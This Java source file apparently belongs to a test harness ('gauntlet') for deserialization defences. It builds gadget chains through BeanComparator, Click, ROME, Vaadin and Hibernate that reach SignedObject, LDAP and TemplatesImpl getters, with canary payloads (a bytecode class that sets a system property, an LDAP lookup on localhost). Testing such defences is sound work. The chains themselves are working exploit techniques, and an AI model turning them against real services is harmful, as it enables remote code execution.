package dev.wherry.gauntlet;

import com.sun.syndication.feed.impl.EqualsBean;
import com.sun.syndication.feed.impl.ObjectBean;
import com.vaadin.data.util.NestedMethodProperty;
import com.vaadin.data.util.PropertysetItem;
import java.io.Serializable;
import java.lang.classfile.ClassFile;
import java.lang.constant.ClassDesc;
import java.lang.constant.ConstantDescs;
import java.lang.constant.MethodTypeDesc;
import java.security.KeyPairGenerator;
import java.security.PrivateKey;
import java.security.Signature;
import java.security.SignedObject;
import java.util.Comparator;
import java.util.Map;
import org.apache.click.control.Column;
import org.apache.click.control.Table;
import org.apache.commons.beanutils.BeanComparator;
import org.hibernate.engine.spi.TypedValue;
import org.hibernate.tuple.component.PojoComponentTuplizer;
import org.hibernate.type.ComponentType;
import org.hibernate.type.StringType;
import org.hibernate.type.Type;

/**
 * Chains that call any getter. The getter is one of the JDK with an effect: {@code SignedObject.getObject}, which reads an object
 * stream that it contains; that of an LDAP attribute, which connects; that of a style sheet, which loads classes.
 */
final class GetterChains {
    private static final PrivateKey KEY = key();

    private GetterChains() {}

    private static PrivateKey key() {
        try {
            return KeyPairGenerator.getInstance("Ed25519").generateKeyPair().getPrivate();
        } catch (java.security.NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    /** Returns an object whose getter {@code object} reads a stream within it, without a filter. */
    private static SignedObject signed(String word) throws Exception {
        Serializable content = (Serializable) CollectionChains.hashSet(word);
        return new SignedObject(content, KEY, Signature.getInstance("Ed25519"));
    }

    static Object beanComparator(String word) throws Exception {
        BeanComparator<Object> comparator = new BeanComparator<>("algorithm");
        Object queue = Parts.queue(comparator, signed(word), signed(word));
        comparator.setProperty("object");
        return queue;
    }

    static Payload beanComparatorOfLdap() throws Exception {
        Listener listener = new Listener();
        Object attribute = new Parts.LdapAttribute("ldap://127.0.0.1:" + listener.port());
        return Payload.forged(
                new Parts.Queue(new BeanComparator<>("attributeSyntaxDefinition"), attribute, attribute),
                listener::wasReached);
    }

    /** A getter of a class that the JDK does not export, called by its class. */
    static Payload beanComparatorOfTemplates() throws Exception {
        String word = Payload.word();
        Object templates = templates(word);
        return Payload.forged(
                new Parts.Queue(new BeanComparator<>("outputProperties"), templates, templates),
                () -> Canary.wasCalled(word));
    }

    @SuppressWarnings("unchecked") // a comparator of any rows
    static Object column(String word) throws Exception {
        Column column = new Column("algorithm");
        column.setTable(new Table());
        Comparator<Object> comparator = (Comparator<Object>)
                Parts.create("org.apache.click.control.Column$ColumnComparator", new Class<?>[] {Column.class}, column);
        Object queue = Parts.queue(comparator, signed(word), signed(word));
        column.setName("object");
        return queue;
    }

    private static Object printedBean(Class<?> type, Object bean) throws ReflectiveOperationException {
        ObjectBean root = new ObjectBean(ObjectBean.class, new ObjectBean(String.class, "any"));
        Object map = Parts.mapOf(root);
        Parts.set(root, "_equalsBean", new EqualsBean(ObjectBean.class, new ObjectBean(type, bean)));
        return map;
    }

    static Object printedBean(String word) throws Exception {
        return printedBean(SignedObject.class, signed(word));
    }

    /** A style sheet, whose getter is called by its interface. */
    static Payload printedTemplates() throws Exception {
        String word = Payload.word();
        return Payload.forged(
                printedBean(javax.xml.transform.Templates.class, templates(word)), () -> Canary.wasCalled(word));
    }

    /** Returns a style sheet of two classes, the first of which sets a system property when it is initialized. */
    private static Object templates(String word) {
        ClassDesc system = ClassDesc.of("java.lang.System");
        byte[] main = ClassFile.of()
                .build(
                        ClassDesc.of("gauntlet.Loaded"),
                        type -> type.withFlags(ClassFile.ACC_PUBLIC)
                                .withMethodBody(
                                        ConstantDescs.CLASS_INIT_NAME,
                                        ConstantDescs.MTD_void,
                                        ClassFile.ACC_STATIC,
                                        code -> code.loadConstant(word)
                                                .loadConstant("fired")
                                                .invokestatic(
                                                        system,
                                                        "setProperty",
                                                        MethodTypeDesc.of(
                                                                ConstantDescs.CD_String,
                                                                ConstantDescs.CD_String,
                                                                ConstantDescs.CD_String))
                                                .pop()
                                                .return_())
                                .withMethodBody(
                                        ConstantDescs.INIT_NAME,
                                        ConstantDescs.MTD_void,
                                        ClassFile.ACC_PUBLIC,
                                        code -> code.aload(0)
                                                .invokespecial(
                                                        ConstantDescs.CD_Object,
                                                        ConstantDescs.INIT_NAME,
                                                        ConstantDescs.MTD_void)
                                                .return_()));
        byte[] other = ClassFile.of().build(ClassDesc.of("gauntlet.Other"), type -> {});
        return new Parts.Templates(main, other);
    }

    static Payload property() throws Exception {
        String word = Payload.word();
        PropertysetItem item = new PropertysetItem();
        item.addItemProperty("object", new NestedMethodProperty<>(signed(word), "object"));
        return Payload.forged(new Parts.Listeners(item), () -> Canary.wasCalled(word));
    }

    static Object typedValue(String word) throws Exception {
        Object getter = Parts.create(
                "org.hibernate.property.BasicPropertyAccessor$BasicGetter",
                new Class<?>[] {Class.class, java.lang.reflect.Method.class, String.class},
                SignedObject.class,
                SignedObject.class.getMethod("getObject"),
                "object");
        Object getters = java.lang.reflect.Array.newInstance(Class.forName("org.hibernate.property.Getter"), 1);
        java.lang.reflect.Array.set(getters, 0, getter);
        PojoComponentTuplizer tuplizer = Parts.empty(PojoComponentTuplizer.class);
        Parts.set(tuplizer, "getters", getters);
        ComponentType type = Parts.empty(ComponentType.class);
        Parts.set(type, "componentTuplizer", tuplizer);
        Parts.set(type, "propertySpan", 1);
        Parts.set(type, "propertyTypes", new Type[] {type});
        TypedValue value = new TypedValue(StringType.INSTANCE, "any");
        Map<Object, Object> map = Parts.mapOf(value);
        Parts.set(value, "type", type);
        Parts.set(value, "value", signed(word));
        return map;
    }
}
